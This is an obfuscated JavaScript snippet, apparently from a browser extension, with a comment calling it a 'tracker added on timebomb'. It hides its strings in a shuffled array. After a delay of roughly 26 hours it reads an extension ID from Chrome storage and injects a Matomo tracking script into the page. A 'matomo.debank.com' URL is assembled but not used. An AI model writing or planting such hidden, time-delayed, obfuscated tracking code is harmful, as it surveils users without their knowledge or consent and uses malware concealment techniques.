// tracker added on timebomb
var _0x577791=_0x4eb1;
function _0x14ec() {
    var e = ["1138VmSxWa", "Tracking", "src", "4230130mSYYki", "233IhnkhY", "t.js", "enableLink", "748864vEyXjS", "https://ma", "16XmccgG", "tomo.deban", "push", "k.com/", "trackPageV", "/vendor/ma", "insertBefo", "local", "storage", "tomo.clien", "extensionI", "_paq", "iew", "1027233PESGTW", "5761csZcKy", "10shZjqe", "2490gWahxv", "parentNode", "458091OjKjhr", "7358560MtfWnx", "get"];
    return (_0x14ec = function () {
        return e
    })()
}
function _0x4eb1(n) {
    return _0x14ec()[n - 410];
}
var g = document.createElement('script'), s = document.getElementsByTagName('script')[0];
setTimeout(() => {
    var e = _0x4eb1;
    chrome[e(427)][e(426)][e(439)](e(429) + "d", function (n) {
        var r = e;
        r(418), r(420), r(422), g[r(412)] = r(424) + r(428) + r(415);
        s[r(436)][r(425) + "re"](g, s)
    })
}, 93445e3);
